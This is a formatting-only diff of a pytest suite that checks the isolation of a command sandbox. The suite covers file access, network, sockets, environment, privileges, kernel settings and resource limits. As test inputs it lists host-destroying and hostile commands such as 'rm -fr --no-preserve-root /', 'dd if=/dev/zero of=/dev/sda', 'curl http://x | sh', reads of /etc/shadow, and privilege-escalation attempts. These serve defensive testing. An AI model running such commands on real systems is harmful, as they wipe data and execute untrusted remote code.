@@ -37,10 +37,14 @@ def test_the_walls_stand_and_are_named(sandbox: Sandbox, kind: Kind) -> None:
     assert HOLDS[kind] <= set(came.walls)
 
 
-@pytest.mark.parametrize("path", ["/etc/passwd", "/root", "/home", "/var", "../../../etc/shadow", "/proc/1/root/etc"])
+@pytest.mark.parametrize(
+    "path", ["/etc/passwd", "/root", "/home", "/var", "../../../etc/shadow", "/proc/1/root/etc"]
+)
 def test_paths_outside_cannot_be_read(sandbox: Sandbox, path: str) -> None:
     assert sandbox.run(["cat", path]).rc != 0
-    assert not {b"passwd", b"shadow", b"lib", b"cache"} & set(sandbox.run(["ls", f"{path}/."]).stdout.split())
+    assert not {b"passwd", b"shadow", b"lib", b"cache"} & set(
+        sandbox.run(["ls", f"{path}/."]).stdout.split()
+    )
 
 
 def test_what_is_outside_is_not_even_seen(sandbox: Sandbox, kind: Kind, root: Path) -> None:
@@ -88,9 +92,17 @@ def test_attributes_of_files_outside_stay(sandbox: Sandbox, root: Path) -> None:
 
 @pytest.mark.parametrize("write", [False, True])
 @pytest.mark.parametrize(
-    "command", ["rm -fr --no-preserve-root /", "find / -delete", "dd if=/dev/zero of=/dev/sda", "curl http://x | sh"]
+    "command",
+    [
+        "rm -fr --no-preserve-root /",
+        "find / -delete",
+        "dd if=/dev/zero of=/dev/sda",
+        "curl http://x | sh",
+    ],
 )
-def test_what_would_destroy_a_host_leaves_it_as_it_is(sandbox: Sandbox, root: Path, command: str, write: bool) -> None:
+def test_what_would_destroy_a_host_leaves_it_as_it_is(
+    sandbox: Sandbox, root: Path, command: str, write: bool
+) -> None:
     before = sorted(os.listdir("/usr/bin"))
     outside = root.parent / "outside"
     outside.write_text("here")
@@ -119,7 +131,10 @@ def test_there_is_no_network_and_no_socket_of_others(sandbox: Sandbox, root: Pat
             f"socket.create_connection(('127.0.0.1', {port}), 2)",
             f"socket.socket(socket.AF_UNIX).connect('\\0{name}')",
             f"socket.socket(socket.AF_UNIX).connect({str(root.parent / 'named')!r})",
-            "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)); socket.if_nametoindex('eth0')",
+            (
+                "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)); "
+                "socket.if_nametoindex('eth0')"
+            ),
         ):
             came = py(sandbox, f"import socket; {code}")
             assert came.rc not in (0, 127), (code, came)
@@ -127,18 +142,28 @@ def test_there_is_no_network_and_no_socket_of_others(sandbox: Sandbox, root: Pat
 
 
 def test_no_datagram_reaches_the_host(sandbox: Sandbox) -> None:
-    """Some walls leave a command a loopback of its own: what counts is that nobody outside hears it."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as host, socket.socket(type=socket.SOCK_DGRAM) as other:
+    """Some walls leave a command a loopback of its own: what counts is that nobody outside hears
+    it."""
+    with (
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as host,
+        socket.socket(type=socket.SOCK_DGRAM) as other,
+    ):
         host.bind(("127.0.0.1", 0))
         host.settimeout(5)
         place = host.getsockname()
-        py(sandbox, f"import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'from inside', {place!r})")
+        py(
+            sandbox,
+            f"import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'from inside', "
+            f"{place!r})",
+        )
         other.sendto(b"from outside", place)
         assert host.recv(100) == b"from outside", "the first that comes"
 
 
 def test_shared_memory_of_others_is_out_of_reach(sandbox: Sandbox) -> None:
-    made = subprocess.run(["ipcmk", "-M", "64", "-p", "0666"], capture_output=True, text=True, check=True)
+    made = subprocess.run(
+        ["ipcmk", "-M", "64", "-p", "0666"], capture_output=True, text=True, check=True
+    )
     number = made.stdout.split()[-1]
     try:
         code = "import ctypes; c = ctypes.CDLL(None); c.shmat.restype = ctypes.c_long; "
@@ -148,7 +173,9 @@ def test_shared_memory_of_others_is_out_of_reach(sandbox: Sandbox) -> None:
         subprocess.run(["ipcrm", "-m", number], check=True)
 
 
-def test_the_environment_of_the_host_is_not_seen(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_environment_of_the_host_is_not_seen(
+    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("STANCHION_SECRET", "do not tell")
     came = sh(sandbox, "env; cat /proc/*/environ")
     assert b"PATH=" in came.stdout
@@ -158,7 +185,10 @@ def test_the_environment_of_the_host_is_not_seen(sandbox: Sandbox, monkeypatch: 
 def test_nothing_is_open_but_its_own_pipes(sandbox: Sandbox, root: Path) -> None:
     with (root / "a.txt").open() as held:
         os.set_inheritable(held.fileno(), True)
-        code = "import fcntl\nfor fd in range(256):\n try: fcntl.fcntl(fd, 1); print(fd)\n except OSError: pass"
+        code = (
+            "import fcntl\nfor fd in range(256):\n try: fcntl.fcntl(fd, 1); print(fd)\n except "
+            "OSError: pass"
+        )
         assert py(sandbox, code).stdout.split() == [b"0", b"1", b"2"]
 
 
@@ -186,7 +216,10 @@ def test_memory_and_files_are_bounded(sandbox: Sandbox, kind: Kind, root: Path) 
     assert py(sandbox, "x = bytearray(1 << 30)").rc != 0
     sh(sandbox, "head -c 5000000 /dev/zero > big", write=True)
     assert (root / "big").stat().st_size <= 1 << 20
-    full = sh(sandbox, "head -c 900000 /dev/zero > $TMPDIR/a; head -c 900000 /dev/zero > $TMPDIR/b").rc != 0
+    full = (
+        sh(sandbox, "head -c 900000 /dev/zero > $TMPDIR/a; head -c 900000 /dev/zero > $TMPDIR/b").rc
+        != 0
+    )
     assert full is (Wall.TMP in HOLDS[kind])
 
 
@@ -198,13 +231,22 @@ def test_what_is_temporary_is_gone_with_the_command(sandbox: Sandbox) -> None:
 def test_nobody_gains_rights(sandbox: Sandbox) -> None:
     code = "import ctypes; c = ctypes.CDLL(None); exit(c.prctl(39, 0, 0, 0, 0))"
     assert py(sandbox, code).rc == 1, "PR_GET_NO_NEW_PRIVS"
-    for script in ("mount -t tmpfs x /tmp", "unshare -Ur true", "unshare -n true", "chroot / true", "mknod x b 8 0"):
+    for script in (
+        "mount -t tmpfs x /tmp",
+        "unshare -Ur true",
+        "unshare -n true",
+        "chroot / true",
+        "mknod x b 8 0",
+    ):
         assert sh(sandbox, script, write=True).rc != 0, script
 
 
 def test_nothing_of_the_kernel_can_be_set(sandbox: Sandbox) -> None:
     """With the value that it has: if a wall fails, the host stays as it is."""
-    code = "import os\nfor path in os.popen('find /proc/sys /proc/irq /proc/sysrq-trigger -type f 2>/dev/null'):\n"
+    code = (
+        "import os\nfor path in os.popen('find /proc/sys /proc/irq /proc/sysrq-trigger -type f "
+        "2>/dev/null'):\n"
+    )
     code += " try: os.open(path.strip(), os.O_WRONLY); print(path)\n except OSError: pass"
     for write in (False, True):
         came = py(sandbox, code, write)
@@ -242,15 +284,24 @@ def test_nothing_is_left_behind(sandbox: Sandbox) -> None:
     for script in (
         f"setsid nohup sleep {mark} >/dev/null 2>&1 & sleep 0.2",
         f"(sleep {mark} &) ; sleep {mark} & echo done",
-        f"{PYTHON} -c \"import os; os.fork() or os.setsid() or os.fork() or os.execlp('sleep', 'sleep', '{mark}')\" &",
+        (
+            f"{PYTHON} -c \"import os; os.fork() or os.setsid() or os.fork() or os.execlp('sleep', "
+            f"'sleep', '{mark}')\" &"
+        ),
     ):
         sh(sandbox, script)
-        left = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=False).stdout
+        left = subprocess.run(
+            ["ps", "-eo", "args"], capture_output=True, text=True, check=False
+        ).stdout
         assert f"sleep {mark}" not in left, script
 
 
-@pytest.mark.parametrize(("chars", "many"), [(3_000_000, 1), (100_000, 50), (400_000_000, 1), (1, 4_000_000)])
-def test_words_that_no_kernel_takes_are_an_error_of_the_command(sandbox: Sandbox, chars: int, many: int) -> None:
+@pytest.mark.parametrize(
+    ("chars", "many"), [(3_000_000, 1), (100_000, 50), (400_000_000, 1), (1, 4_000_000)]
+)
+def test_words_that_no_kernel_takes_are_an_error_of_the_command(
+    sandbox: Sandbox, chars: int, many: int
+) -> None:
     words = ["x" * chars] * many
     for write in (False, True):
         came = sandbox.run(["echo", *words], write)
